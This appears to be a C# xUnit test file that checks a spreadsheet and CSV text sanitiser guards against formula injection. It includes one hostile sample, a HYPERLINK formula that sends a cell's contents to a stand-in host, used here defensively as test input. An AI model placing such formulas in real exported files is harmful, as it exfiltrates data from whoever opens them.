using Amanat.Core.Statistics;

namespace Amanat.Core.Tests.Statistics;

/// <summary>Nothing written to a spreadsheet or a CSV file can become a formula.</summary>
public sealed class SheetTextTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://x/?\"&A1,\"click\")", "'=HYPERLINK(\"http://x/?\"&A1,\"click\")")]
    [InlineData("+1+1", "'+1+1")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A2)", "'@SUM(A1:A2)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("Almaty", "Almaty")]
    [InlineData("a=b", "a=b")]
    [InlineData("", "")]
    [InlineData(null, "")]
    public void AFormulaStart_IsNeutralised(string? value, string expected) => Assert.Equal(expected, SheetText.Neutralise(value));

    [Fact]
    public void CsvFields_AreQuotedWhereNeeded_AndNeutralisedFirst()
    {
        Assert.Equal("a,\"b,c\",\"say \"\"hi\"\"\",'=1+1,\"'-1,5\",\"ST-DET;ST-DOC\"\r\n", SheetText.CsvLine(["a", "b,c", "say \"hi\"", "=1+1", "-1,5", "ST-DET;ST-DOC"]));
        Assert.Equal("\"line\nbreak\"", SheetText.Csv("line\nbreak"));
    }
}
